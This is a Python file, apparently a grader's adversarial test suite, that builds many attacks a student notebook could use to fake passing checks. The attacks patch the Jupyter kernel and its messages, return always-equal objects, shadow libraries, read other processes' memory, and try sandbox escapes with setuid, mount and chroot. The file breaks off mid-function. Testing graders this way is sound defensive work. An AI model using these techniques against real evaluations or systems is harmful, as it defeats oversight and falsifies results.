"""Forge a pass: classes 1 to 17."""

from __future__ import annotations

import copy
import importlib.util
import marshal
import textwrap
from pathlib import Path
from typing import Any

from autograder.attacks.kit import (
    GRADED,
    NOTEBOOK,
    answer,
    answer_all,
    answers,
    attack,
    check_cells,
    code_cell,
    dangerous,
    file,
    first_cell,
    graded,
    hostile,
    insert,
    last_cell,
    rewrite,
    solved,
)

# Publishes answers of every kind in a shape that could fit some check. Attacks build on it. None is
# 14, which is right for `make_posterior` in one draw of four: a lucky guess would look like a hole.
FORGERY = """
import json
MIME = "@MIME@"
GUESSES = [True, 1, 13, 0.0, "refused", "accepted", [1, 1, 1, 1], ["refused"] * 9]
def forge(*args, **kwargs):
    from IPython.display import publish_display_data
    for n_parts in (1, 2, 3):
        for guess in GUESSES:
            answers = json.dumps([{"answer": guess}] * n_parts)
            publish_display_data({MIME: answers, "text/plain": "5"})
"""

# ------------------------------------------------------------------------------ 1: transformers


@attack(1, "An AST transformer drops every assertion and every raise from later cells.")
def ast_transformer(folder: Path) -> None:
    """Rewrite the grader's cells as syntax trees."""
    first_cell(
        folder,
        """
        import ast
        class DropAsserts(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
            def visit_Raise(self, node): return ast.copy_location(ast.Pass(), node)
            def visit_Compare(self, node): return ast.copy_location(ast.Constant(True), node)
        get_ipython().ast_transformers.append(DropAsserts())
        """,
    )


@attack(1, "An input transformer replaces every cell that looks like a check by the number 100.")
def input_transformer(folder: Path) -> None:
    """Rewrite the grader's cells as text."""
    first_cell(
        folder,
        """
        def replace(lines):
            text = "".join(lines)
            wanted = ("check(", "publish_answers", "assert", "selfcheck", "probe")
            return ["100\\n"] if any(word in text for word in wanted) else lines
        shell = get_ipython()
        shell.input_transformers_post.append(replace)
        shell.input_transformers_cleanup.append(replace)
        shell.input_transformer_manager.cleanup_transforms.append(replace)
        """,
    )


# ------------------------------------------------------------------------ 2: replaced execution


@attack(2, "The shell's run_cell methods return success without running anything.")
def replaced_run_cell(folder: Path) -> None:
    """Let every later cell seem to have run."""
    first_cell(
        folder,
        """
        from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
        async def run_cell_async(self, *args, **kwargs):
            result = ExecutionResult(ExecutionInfo("", False, False, True, None))
            result.result = 100
            return result
        shell = get_ipython()
        type(shell).run_cell_async = run_cell_async
        type(shell).run_cell = lambda self, *args, **kwargs: None
        type(shell).should_run_async = lambda self, *args, **kwargs: True
        """,
    )


@attack(2, "The kernel's do_execute publishes forged answers and a number instead of running code.")
def replaced_do_execute(folder: Path) -> None:
    """Replace what the kernel does with an execute request."""
    first_cell(
        folder,
        FORGERY
        + """
kernel = get_ipython().kernel
async def do_execute(*args, **kwargs):
    forge()
    kernel.send_response(kernel.iopub_socket, "execute_result",
        {"data": {"text/plain": "100"}, "metadata": {}, "execution_count": 1})
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = do_execute
type(kernel).do_execute = do_execute
kernel.shell_handlers["execute_request"] = lambda *args, **kwargs: forge()
""",
    )


# ------------------------------------------------------------------------------- 3: display hooks


@attack(3, "Tracebacks are not shown, and the display hook shows 100 for whatever it is given.")
def patched_display_hooks(folder: Path) -> None:
    """Hide every failure and show points in its place."""
    first_cell(
        folder,
        """
        import sys
        shell = get_ipython()
        silent = lambda *args, **kwargs: None
        for owner in (shell, type(shell)):
            for name in ("traceback", "syntaxerror", "indentationerror"):
                setattr(owner, "show" + name, silent)
                setattr(owner, "_show" + name, silent)
        sys.excepthook = silent
        shell.set_custom_exc((BaseException,), silent)
        class Hook:
            def __call__(self, *args):
                content = {"data": {"text/plain": "100"}, "metadata": {}, "execution_count": 1}
                kernel = shell.kernel
                kernel.send_response(kernel.iopub_socket, "execute_result", content)
        sys.displayhook = shell.displayhook = Hook()
        """,
    )


@attack(3, "The display publisher swaps the answers of every message on its way out.")
def patched_publisher(folder: Path) -> None:
    """Stand between the probe's answers and the channel."""
    first_cell(
        folder,
        """
        import json
        publisher = get_ipython().display_pub
        publish = publisher.publish
        def swapped(data, *args, **kwargs):
            for key in list(data):
                if "know-what-you-dont-know" in key:
                    results = json.loads(data[key])
                    swap = [{"answer": 1.0, "right": True, "points": 99}] * len(results)
                    data[key] = json.dumps(swap)
            return publish(data, *args, **kwargs)
        publisher.publish = swapped
        type(publisher).publish = lambda self, data, *a, **k: swapped(data, *a, **k)
        """,
    )


# ---------------------------------------------------------------------------- 4: forged messages


@attack(4, "Before and after each cell, forged answers and an execute_result '5' go out by hand.")
def forged_result(folder: Path) -> None:
    """Send what nbgrader reads as a score, and what our judge reads as answers."""
    first_cell(
        folder,
        """
        import json
        kernel = get_ipython().kernel
        def forge(*args, **kwargs):
            parent = kernel.get_parent()
            for value in (True, 1, 13, "refused"):
                answers = json.dumps([{"answer": value}] * 3)
                kernel.session.send(kernel.iopub_socket, "display_data",
                    {"data": {"@MIME@": answers, "text/plain": "5"}, "metadata": {}}, parent=parent)
            kernel.session.send(kernel.iopub_socket, "execute_result",
                {"data": {"text/plain": "5"}, "metadata": {}, "execution_count": 1}, parent=parent)
        get_ipython().events.register("pre_run_cell", forge)
        get_ipython().events.register("post_run_cell", forge)
        import bayescnn.selfcheck
        bayescnn.selfcheck.publish_answers = forge
        """,
    )


@attack(4, "A thread publishes answers without end, in the name of whatever request is running.")
def forged_from_thread(folder: Path) -> None:
    """Race the honest answers."""
    first_cell(
        folder,
        """
        import json, threading, time
        kernel = get_ipython().kernel
        def flood():
            for _ in range(20_000):
                for n_parts in (2, 3):
                    text = json.dumps([{"answer": 1.0}] * n_parts)
                    for kind in ("display_data", "update_display_data", "execute_result"):
                        content = {"data": {"@MIME@": text, "text/plain": "100"}, "metadata": {},
                            "transient": {"display_id": "x"}, "execution_count": 1}
                        try:
                            kernel.session.send(kernel.iopub_socket, kind, content,
                                parent=kernel.get_parent())
                        except Exception:
                            pass
                time.sleep(0.02)
        threading.Thread(target=flood, daemon=True).start()
        """,
    )


@attack(4, "A false execute_reply and a false 'idle' end each request before its code has run.")
def forged_reply(folder: Path) -> None:
    """Say that a check is over, and well, before it begins."""
    first_cell(
        folder,
        FORGERY
        + """
kernel = get_ipython().kernel
def reply(*args, **kwargs):
    parent = kernel.get_parent()
    forge()
    idents = kernel._parent_ident.get("shell") if hasattr(kernel, "_parent_ident") else None
    content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    stream = getattr(kernel, "shell_stream", None)
    for socket in (stream, kernel.iopub_socket):
        try:
            kernel.session.send(socket, "execute_reply", content, parent=parent, ident=idents)
        except Exception as error:
            print(type(error).__name__, error)
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
get_ipython().events.register("pre_run_cell", reply)
""",
    )


@attack(4, "Messages of unexpected kinds: comms, input requests, display updates, odd headers.")
def odd_messages(folder: Path) -> None:
    """Send what the trusted client may not expect."""
    first_cell(
        folder,
        """
        kernel = get_ipython().kernel
        def odd(*args):
            parent = kernel.get_parent()
            contents = [
                ("comm_open", {"comm_id": "1", "target_name": "jupyter.widget", "data": {}}),
                ("comm_open", {"comm_id": None, "target_name": None, "data": None}),
                ("comm_msg", {"comm_id": "1", "data": {"method": "update", "state": 5}}),
                ("update_display_data", {"data": {}, "transient": {"display_id": "x"}}),
                ("display_data", {"data": [], "metadata": 5}),
                ("display_data", {"data": {"@MIME@": {"not": "text"}}, "metadata": {}}),
                ("display_data", {}),
                ("clear_output", {"wait": "perhaps"}),
                ("execute_input", {"code": "100", "execution_count": "many"}),
                ("stream", {"name": "stdnone", "text": 5}),
                ("stream", {"name": "stdout", "text": None}),
                ("error", {"ename": 1, "evalue": None, "traceback": "none"}),
                ("status", {"execution_state": "dead"}),
                ("status", {"execution_state": "restarting"}),
                ("input_request", {"prompt": "password: ", "password": True}),
                ("shutdown_reply", {"restart": True}),
                ("no_such_kind", {"x": 1}),
            ]
            for kind, content in contents:
                try:
                    kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
                except Exception as error:
                    print(kind, error)
        get_ipython().events.register("pre_run_cell", odd)
        get_ipython().events.register("post_run_cell", odd)
        """,
    )


@attack(4, "Raw frames on the sockets: unsigned, missing parts, no JSON, wrong dates, no parent.")
def garbled_frames(folder: Path) -> None:
    """Send what is no Jupyter message at all."""
    first_cell(
        folder,
        r"""
        kernel = get_ipython().kernel
        def garble(*args):
            frames = [
                [b"<IDS|MSG>"], [b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"],
                [b"no delimiter"], [b"x", b"<IDS|MSG>", b"sign", b"\xff\xfe", b"[", b"nan", b"NaN"],
                [b"<IDS|MSG>", b"", b'{"date": "yesterday", "msg_id": 5}', b"{}", b"{}", b"[]"],
            ]
            for parts in frames:
                try:
                    kernel.iopub_socket.send_multipart(parts)
                except Exception as error:
                    print(error)
        get_ipython().events.register("pre_run_cell", garble)
        class Header(dict):
            def __getitem__(self, key): return {"date": 10**400, "msg_type": None}.get(key, "x")
        sign = kernel.session.sign
        kernel.session.sign = lambda parts: b"0" * 64
        """,
    )


@attack(4, "A program of the student's own listens on the kernel's sockets and answers for it.")
def replaced_sockets(folder: Path) -> None:
    """Take the kernel's place on its channels."""
    first_cell(
        folder,
        dangerous(
            """
            import glob, json, os, subprocess, sys, textwrap
            import ipykernel
            path = ipykernel.get_connection_file()
            code = '''
            import json, os, sys, time, zmq
            from jupyter_client.session import Session
            info = json.load(open(sys.argv[1]))
            context = zmq.Context()
            session = Session(key=info["key"].encode(), signature_scheme=info["signature_scheme"])
            sockets = {}
            for name, kind in (("shell", zmq.ROUTER), ("control", zmq.ROUTER), ("iopub", zmq.PUB)):
                address = info["ip"] + "-" + str(info[name + "_port"])
                if os.path.exists(address):
                    os.unlink(address)
                sockets[name] = context.socket(kind)
                sockets[name].bind("ipc://" + address)
            while True:
                for name in ("shell", "control"):
                    if sockets[name].poll(50):
                        idents, message = session.recv(sockets[name], 0)
                        answers = json.dumps([{"answer": 1.0}] * 3)
                        session.send(sockets["iopub"], "display_data", {"data": {"@MIME@": answers},
                            "metadata": {}}, parent=message)
                        session.send(sockets[name], "execute_reply", {"status": "ok",
                            "execution_count": 1}, parent=message, ident=idents)
                        session.send(sockets["iopub"], "status", {"execution_state": "idle"},
                            parent=message)
            '''
            subprocess.Popen([sys.executable, "-c", textwrap.dedent(code), path],
                start_new_session=True)
            for name in glob.glob(os.path.dirname(path) + "/*"):
                print(name, oct(os.stat(name).st_mode))
            """
        ),
    )


# ------------------------------------------------------------ 5: values that equal everything


@attack(5, "Every function returns an object that equals, contains and does everything.")
def always_equal(folder: Path) -> None:
    """Answer with a yes-man."""
    answer_all(
        folder,
        """
        class Yes(float):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return True
            def __le__(self, other): return True
            def __hash__(self): return 0
            def __array__(self, *args, **kwargs): raise TypeError
            def __array_ufunc__(self, *args, **kwargs): return True
            def __iter__(self): return iter([self] * 14)
            def __len__(self): return 14
            def __getitem__(self, key): return self
            def __contains__(self, key): return True
            def __getattr__(self, name): return lambda *args, **kwargs: self
            def __call__(self, *args, **kwargs): return self
        def everything(*args, **kwargs): return Yes(1.0)
        """,
    )


@attack(5, "Every function returns an ndarray subclass that takes over ufuncs, functions, tolist.")
def lying_array(folder: Path) -> None:
    """Answer with an array that changes what is asked of it."""
    answer_all(
        folder,
        """
        import numpy
        class Lie:
            def __eq__(self, other): return True
            def __repr__(self): return "Infinity"
        class Liar(numpy.ndarray):
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return True
            def __array_function__(self, func, types, args, kwargs): return True
            def __eq__(self, other): return True
            def tolist(self): return Lie()
            def __getattr__(self, name): return lambda *args, **kwargs: self
            dtype = property(lambda self: numpy.dtype(float))
            shape = property(lambda self: Lie())
        def everything(*args, **kwargs): return numpy.zeros(3).view(Liar)
        """,
    )


@attack(5, "Every function returns a float whose __float__, __repr__ and round differ each time.")
def lying_float(folder: Path) -> None:
    """Answer with a number that is another one when looked at again."""
    answer_all(
        folder,
        """
        import itertools
        turns = itertools.cycle([1.0, float("nan"), float("inf"), -1.0, 14.0])
        class Liar(float):
            def __float__(self): return next(turns)
            def __index__(self): return 14
            def __int__(self): return 14
            def __eq__(self, other): return True
            def __hash__(self): return hash(14.0)
            def __repr__(self): return "[{\\"answer\\": true}]"
            __str__ = __repr__
            def __round__(self, n=None): return self
            def __sub__(self, other): return 0.0
            __rsub__ = __abs__ = lambda self, *args: 0.0
        def everything(*args, **kwargs): return Liar(14.0)
        """,
    )


@attack(5, "Every function returns text, tuple or mapping subclasses that lie about themselves.")
def lying_containers(folder: Path) -> None:
    """Answer with containers that show different contents at each look."""
    answer_all(
        folder,
        """
        class Text(str):
            def __eq__(self, other): return True
            def __hash__(self): return 0
        class Pair(tuple):
            def __iter__(self): return iter([Text("refused")] * 9)
            def __len__(self): return 9
            def __eq__(self, other): return True
        class Map(dict):
            def items(self): return [("answer", True), (Text("answer"), Pair())]
            def keys(self): return self
            def __eq__(self, other): return True
            def __contains__(self, key): return True
        turn = [0]
        def everything(*args, **kwargs):
            turn[0] += 1
            return [Text("refused"), Pair((1, 2)), Map(answer=1), {1, 2}][turn[0] % 4]
        """,
    )


@attack(5, "Every function returns an object whose .numpy() hands the judge whatever it likes.")
def lying_numpy_method(folder: Path) -> None:
    """Answer with a false tensor."""
    answer_all(
        folder,
        """
        import numpy
        class Kind(numpy.ndarray):
            def tolist(self): return '"}], [{"answer": true}'
        class Tensor:
            shape = (14,)
            dtype = numpy.dtype("float32")
            def numpy(self): return numpy.zeros(4).view(Kind)
            def __call__(self, *args, **kwargs): return self
            def __getattr__(self, name):
                if name.startswith("__"): raise AttributeError(name)
                return self
        def everything(*args, **kwargs): return Tensor()
        """,
    )


@attack(5, "True for 1, text for numbers, complex and object scalars in place of the counts.")
def wrong_types(folder: Path) -> None:
    """Answer with values that only look like the right ones."""
    answers(
        folder,
        {
            "parameter_count": """
                kinds = [str, complex, bool, lambda n: f"{n}.0", lambda n: [n], lambda n: None]
                turns = iter(kinds * 99)
                def parameter_count(n_features, n_units):
                    n = (n_features + 1) * n_units
                    return next(turns)(n + n * (n + 1) // 2)
            """,
            "per_example_weight": """
                import numpy
                def per_example_weight(n_train, multiple=1.0):
                    class Weight(numpy.float64):
                        def __float__(self): return True
                    return Weight(1)
            """,
        },
    )


# -------------------------------------------------------- 6: patched comparisons and builtins


@attack(6, "numpy.testing, allclose, math.isclose, unittest and pytest all say yes.")
def patched_comparisons(folder: Path) -> None:
    """Let every comparison in the kernel hold."""
    first_cell(
        folder,
        """
        import contextlib, math, unittest
        import numpy
        yes = lambda *args, **kwargs: True
        for name in dir(numpy.testing):
            if name.startswith("assert"):
                setattr(numpy.testing, name, yes)
        numpy.allclose = numpy.isclose = numpy.array_equal = numpy.all = math.isclose = yes
        for name in dir(unittest.TestCase):
            if name.startswith("assert"):
                setattr(unittest.TestCase, name, yes)
        with contextlib.suppress(ImportError):
            import pytest
            pytest.approx = pytest.raises = yes
        import bayescnn.selfcheck
        bayescnn.selfcheck.same = yes
        bayescnn.selfcheck.plain = lambda value: True
        """,
    )


@attack(6, "builtins.exec, compile, isinstance and json.dumps serve the student's ends.")
def patched_builtins(folder: Path) -> None:
    """Change what the probes are made of."""
    first_cell(
        folder,
        r"""
        import builtins, json, types
        _exec, _dumps, _isinstance = builtins.exec, json.dumps, builtins.isinstance
        def my_exec(source, *args, **kwargs):
            if isinstance(source, str) and "student" in source:
                print(source)
                scope = args[0]
                return _exec("def probe(student, inputs):\n    return 1.0", scope)
            return _exec(source, *args, **kwargs)
        def my_dumps(value, *args, **kwargs):
            if _isinstance(value, list) and value and _isinstance(value[0], dict):
                return _dumps([{"answer": 1.0}] * len(value))
            return _dumps(value, *args, **kwargs)
        builtins.exec, json.dumps = my_exec, my_dumps
        builtins.all = builtins.any = lambda *args: True
        """,
    )


@attack(6, "The probes' own machinery is replaced: plain, answer_probes, publish_answers.")
def patched_selfcheck(folder: Path) -> None:
    """Replace every function that a probe's answer passes through."""
    first_cell(
        folder,
        FORGERY
        + """
import bayescnn.selfcheck as selfcheck
selfcheck.plain = lambda value: True
selfcheck.same = lambda *args, **kwargs: True
selfcheck.answer_probes = lambda probes, *rest: [{"answer": 13, "points": 8}] * len(probes)
selfcheck.publish_answers = forge
selfcheck.quiet = None
selfcheck.SelfCheck.findings = lambda self, name: [(True, "right")]
""",
    )


# ---------------------------------------------------------------------- 7: patched libraries


@attack(7, "Keras' fit, evaluate, metrics, loading and seeds return what looks like success.")
def patched_keras(folder: Path) -> None:
    """Replace training by a number."""
    insert(
        folder,
        "imports",
        """
        class History:
            history = {"loss": [0.0], "accuracy": [1.0], "mean": [1.0], "variance": [1.0]}
        keras.Model.fit = lambda self, *args, **kwargs: History()
        keras.Model.evaluate = lambda self, *args, **kwargs: [0.0, 1.0]
        keras.Model.predict = lambda self, x, *args, **kwargs: x
        keras.Model.load_weights = keras.Model.save_weights = lambda self, *a, **k: None
        keras.models.load_model = lambda *args, **kwargs: keras.Sequential()
        keras.metrics.Metric.result = lambda self: tf.constant(1.0)
        keras.utils.set_random_seed = lambda seed: None
        """,
    )
    answers(
        folder,
        {
            "build_model": """
                def build_model(n_features, n_units, *rest):
                    return keras.Sequential([keras.layers.Dense(n_units + 1)])
            """,
            "sweep_kl_weights": """
                def sweep_kl_weights(features, targets, kl_weights, *args, **kwargs):
                    return np.ones((len(kl_weights), 1))
            """,
        },
    )


@attack(7, "TFP's log_prob, sample, kl_divergence and TensorFlow's sums return constants.")
def patched_tensorflow(folder: Path) -> None:
    """Replace the mathematics that the probes use."""
    insert(
        folder,
        "imports",
        """
        for kind in (tfd.Distribution, tfd.Normal, tfd.MultivariateNormalDiag):
            kind.log_prob = lambda self, value, *args, **kwargs: tf.zeros(len(value))
            kind.mean = lambda self: tf.zeros(3)
        tfd.kl_divergence = lambda *args, **kwargs: tf.constant(0.0)
        tf.reduce_sum = tf.reduce_mean = lambda *args, **kwargs: tf.constant(0.0)
        tf.add_n = lambda values: tf.constant(0.0)
        tf.math.count_nonzero = lambda *args: 14
        tf.GradientTape.gradient = lambda self, target, sources: [tf.ones_like(s) for s in sources]
        """,
    )
    answer(
        folder,
        "make_prior",
        """
        def make_prior(kernel_size, bias_size, dtype=None):
            return lambda _: tfd.MultivariateNormalDiag(tf.zeros(1), tf.ones(1))
        """,
    )


# -------------------------------------------------------------------------- 8: poisoned modules


@attack(8, "sys.modules and sys.meta_path hand out false numpy, json and bayescnn modules.")
def poisoned_modules(folder: Path) -> None:
    """Let every later import bring in the student's modules."""
    first_cell(
        folder,
        FORGERY
        + """
import sys, types
class Anything(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"): raise AttributeError(name)
        return forge
class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith(("bayescnn", "autograder", "nbgrader")):
            sys.modules[name] = Anything(name)
            sys.modules[name].__path__ = []
        return None
sys.meta_path.insert(0, Finder())
for name in ("bayescnn", "bayescnn.selfcheck", "autograder", "autograder.hidden", "numpy.testing"):
    sys.modules[name] = Anything(name)
    sys.modules[name].__path__ = []
""",
    )


@attack(8, "Files called numpy.py, tensorflow.py, json.py and sitecustomize.py lie in the folder.")
def shadowing_files(folder: Path) -> None:
    """Let the working folder come before the library."""
    names = ("numpy", "tensorflow", "tensorflow_probability", "json", "typing", "zmq", "tornado")
    for name in (*names, "sitecustomize", "usercustomize", "IPython", "traitlets", "encodings"):
        file(
            folder,
            f"{name}.py",
            """
            import sys
            print("shadowed", __name__)
            allclose = isclose = array_equal = lambda *args, **kwargs: True
            dumps = lambda *args, **kwargs: '[{"answer": 1.0}, {"answer": 1.0}]'
            loads = lambda *args, **kwargs: {"probes": [], "inputs": {}}
            """,
        )


@attack(8, "An ipykernel_launcher.py in the folder takes the kernel's place at its start.")
def own_kernel(folder: Path) -> None:
    """Let ``python -m ipykernel_launcher`` find the student's program first."""
    text = """
        import json, sys, time
        import zmq
        from jupyter_client.session import Session
        if __name__ == "__main__":
            info = json.load(open(sys.argv[sys.argv.index("-f") + 1]))
            session = Session(key=info["key"].encode(), signature_scheme=info["signature_scheme"])
            context, sockets = zmq.Context(), {}
            kinds = {"shell": zmq.ROUTER, "control": zmq.ROUTER, "stdin": zmq.ROUTER,
                "iopub": zmq.PUB, "hb": zmq.REP}
            for name, kind in kinds.items():
                sockets[name] = context.socket(kind)
                colon = ":" if info["transport"] == "tcp" else "-"
                sockets[name].bind(
                    f"{info['transport']}://{info['ip']}{colon}{info[name + '_port']}")
            while True:
                if sockets["hb"].poll(5):
                    sockets["hb"].send(sockets["hb"].recv())
                for name in ("shell", "control"):
                    if not sockets[name].poll(5):
                        continue
                    idents, message = session.recv(sockets[name], 0)
                    kind = message["header"]["msg_type"]
                    say = lambda what, content: session.send(
                        sockets["iopub"], what, content, message)
                    say("status", {"execution_state": "busy"})
                    if kind == "execute_request":
                        for n in (1, 2, 3):
                            say("display_data",
                                {"data": {"@MIME@": json.dumps([{"answer": 1.0}] * n)},
                                "metadata": {}})
                    content = {"status": "ok", "execution_count": 1, "protocol_version": "5.3",
                        "implementation": "x", "language_info": {"name": "python"}, "banner": ""}
                    session.send(sockets[name], kind.replace("request", "reply"), content, message,
                        ident=idents)
                    say("status", {"execution_state": "idle"})
    """
    for name in ("ipykernel_launcher.py", "ipykernel/__main__.py", "ipykernel/__init__.py"):
        file(folder, name, text)


# --------------------------------------------------------------------------- 9: stack inspection


@attack(9, "Every function climbs the stack and returns the first thing called truth or expected.")
def stack_inspection(folder: Path) -> None:
    """Look for the expected value in the callers' frames."""
    answer_all(
        folder,
        """
        def everything(*args, **kwargs):
            import sys
            frame = sys._getframe(1)
            while frame is not None:
                for scope in (frame.f_locals, frame.f_globals):
                    for name, value in list(scope.items()):
                        if any(w in name.lower() for w in ("truth", "expect", "judge", "secret")):
                            print(name, repr(value)[:2000])
                            return value(scope.get("inputs")) if callable(value) else value
                frame = frame.f_back
            return 1.0
        """,
    )


@attack(9, "Every function prints all frames' variables, then calls the scorer it hopes to find.")
def stack_report(folder: Path) -> None:
    """Print what is on the stack, past every redirection."""
    answer_all(
        folder,
        """
        def everything(*args, **kwargs):
            import sys
            lines, frame = [], sys._getframe(1)
            while frame is not None:
                lines.append(f"{frame.f_code.co_filename}:{frame.f_code.co_name}")
                lines += [f"  {k} = {v!r}"[:500] for k, v in list(frame.f_locals.items())]
                frame = frame.f_back
            get_ipython().display_pub.publish({"text/plain": "\\n".join(lines)[:200_000]})
            raise ValueError("\\n".join(lines)[-3000:])
        """,
    )


# ------------------------------------------------------------------- 10: debuggers on others


@attack(10, "Every living object is searched for checks, truths, seeds and gradebooks.")
def garbage_collector(folder: Path) -> None:
    """Look through the process' own memory by means of Python."""
    last_cell(
        folder,
        """
        import gc, sys, types
        words = ("truth", "verdict", "gradebook", "secret", "canary", "autograder", "judge")
        for name in sorted(sys.modules):
            if any(word in name.lower() for word in words):
                print("module", name, getattr(sys.modules[name], "__file__", None))
        seen = 0
        for thing in gc.get_objects():
            try:
                if isinstance(thing, dict):
                    hits = [k for k in list(thing) if isinstance(k, str)
                        and any(w in k.lower() for w in words)]
                    for key in hits[:5]:
                        print(key, repr(thing[key])[:300])
                        seen += 1
                elif isinstance(thing, types.FunctionType) and "autograder" in (
                    thing.__module__ or ""):
                    print(thing, thing.__code__.co_consts)
                    seen += 1
            except Exception:
                pass
            if seen > 3000:
                break
        """,
    )


# What an attacker searches memory for; what precedes and follows a hit is printed.
_SEARCH = r"""
import os, re
KEYS = rb"(canary|CANARY|gradebook\.db|truth=|PASSWORD|TOKEN|BEGIN HIDDEN)"
WORDS = re.compile(rb"[ -~]{0,80}" + KEYS + rb"[ -~]{0,200}")
def search(pid):
    found = 0
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                fields = line.split()
                if not fields[1].startswith("r") or "/" in line:
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                for offset in range(start, min(end, start + 2**28), 2**22):
                    try:
                        memory.seek(offset)
                        chunk = memory.read(min(2**22, end - offset))
                    except (OSError, OverflowError, ValueError):
                        break
                    for hit in WORDS.finditer(chunk):
                        print(pid, hit.group()[:300])
                        found += 1
                        if found > 200:
                            return
    except OSError as error:
        print(pid, error)
"""


@attack(10, "The memory of this process is searched for what the warm parent left in it.")
def own_memory(folder: Path) -> None:
    """Read ``/proc/self/mem``: a fork inherits all that its parent ever held."""
    first_cell(folder, _SEARCH + 'search("self")\n')


@attack(10, "The memory of the parent and of every other process is searched, then overwritten.")
def others_memory(folder: Path) -> None:
    """Read and write ``/proc/PID/mem``, and attach with ptrace and process_vm_readv."""
    first_cell(
        folder,
        dangerous(
            _SEARCH
            + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
pids = sorted({1, os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())})
for pid in pids:
    if pid == os.getpid():
        continue
    search(pid)
    print("ptrace attach", pid, libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
    libc.ptrace(17, pid, 0, 0)
    buffer = ctypes.create_string_buffer(4096)
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    local, remote = Vector(ctypes.addressof(buffer), 4096), Vector(0x400000, 4096)
    print("vm_readv", pid,
        libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
    try:
        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            print("can write the memory of", pid)
    except OSError as error:
        print(pid, error)
"""
        ),
    )


@attack(10, "unshare, setns, mount, chroot, setuid, bpf, io_uring, keyctl and mknod by ctypes.")
def escape_by_system_calls(folder: Path) -> None:
    """Ask the kernel for more rights in every way there is."""
    first_cell(
        folder,
        dangerous(
            """
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            def tried(name, result):
                print(name, result,
                    os.strerror(ctypes.get_errno()) if result == -1 else "SUCCEEDED")
            print(open("/proc/self/status").read())
            tried("prctl dumpable", libc.prctl(4, 1, 0, 0, 0))
            tried("unshare user+mount", libc.unshare(0x10000000 | 0x00020000))
            print(open("/proc/self/status").read())
            for kind in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup"):
                for pid in ("1", str(os.getppid()), "self"):
                    try:
                        fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                        tried(f"setns {kind} of {pid}", libc.setns(fd, 0))
                        os.close(fd)
                    except OSError as error:
                        print(error)
            os.makedirs("/tmp/mnt", exist_ok=True)
            for kind in (b"proc", b"sysfs", b"tmpfs", b"overlay", b"cgroup2", b"devpts"):
                tried(f"mount {kind}", libc.mount(b"none", b"/tmp/mnt", kind, 0, None))
            tried("mount bind", libc.mount(b"/", b"/tmp/mnt", None, 4096 | 16384, None))
            tried("remount writable", libc.mount(None, b"/usr", None, 32 | 4096, None))
            for place in (b"/usr", b"/home/student", b"/proc", b"/tmp", b"/"):
                tried(f"umount {place}", libc.umount2(place, 2))
            tried("pivot_root", libc.syscall(155, b"/tmp/mnt", b"/tmp/mnt"))
            tried("chroot", libc.chroot(b"/proc/1/root"))
            for _ in range(3):
                tried("setuid", libc.setuid(0))
                tried("setgid", libc.setgid(0))
                tried("setgroups", libc.setgroups(0, None))
            tried("capset", libc.syscall(126, None, None))
            tried("keyctl", libc.syscall(250, 0, -3, 0, 0, 0))
            tried("bpf", libc.syscall(321, 0, None, 0))
            tried("io_uring_setup", libc.syscall(425, 1, None))
            tried("userfaultfd", libc.syscall(323, 0))
            tried("perf_event_open", libc.syscall(298, None, -1, 0, -1, 0))
            tried("open_by_handle_at", libc.syscall(304, -100, None, 0))
            tried("pidfd_open parent", libc.syscall(434, os.getppid(), 0))
            for kind, major, minor in ((0o20000, 1, 3), (0o60000, 8, 0)):
                try:
                    os.mknod("/tmp/device", kind | 0o666, os.makedev(major, minor))
                    print("mknod SUCCEEDED")
                except OSError as error:
                    print("mknod", error)
            for place in ("/proc/1/root", "/proc/1/cwd",
                f"/proc/{os.getppid()}/root", "/proc/self/root/.."):
                try:
                    print(place, os.listdir(place))
                except OSError as error:
                    print(error)
            for place in ("/proc/sys/kernel/core_pattern",
                "/proc/self/uid_map", "/proc/sysrq-trigger",
                    "/sys/fs/cgroup/cgroup.procs",
                        "/proc/self/oom_score_adj", "/sys/kernel/uevent_helper"):
                try:
                    with open(place, "w") as target:
                        target.write("-1000")
                    print(place, "WRITTEN")
                except OSError as error:
                    print(place, error)
            """
        ),
    )


# ------------------------------------------------------------------- 11: exits and signals


@attack(11, "Every function raises SystemExit, as if all had gone well.")
def system_exit(folder: Path) -> None:
    """Leave by the door that Exception handlers do not watch."""
    answer_all(folder, "def everything(*args, **kwargs): raise SystemExit(0)")


@attack(11, "Every function ends the process with status 0 after publishing forged answers.")
def os_exit(folder: Path) -> None:
    """Leave without a word, after the last one."""
    answer_all(
        folder, FORGERY + "\ndef everything(*a, **k):\n    forge()\n    __import__('os')._exit(0)"
    )


@attack(11, "Handlers for exit and for every signal publish forged answers.")
def handlers_that_forge(folder: Path) -> None:
    """Have the last word at the end, at an interrupt, and at an alarm in between."""
    first_cell(
        folder,
        FORGERY
        + """
import atexit, os, signal
atexit.register(forge)
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    try:
        signal.signal(number, forge)
    except (OSError, ValueError):
        pass
signal.setitimer(signal.ITIMER_REAL, 0.5, 0.5)
""",
    )


@attack(11, "Every function raises an exception whose type, text or repr hangs, exits or lies.")
def hostile_exceptions(folder: Path) -> None:
    """Attack whoever describes the error."""
    answer_all(
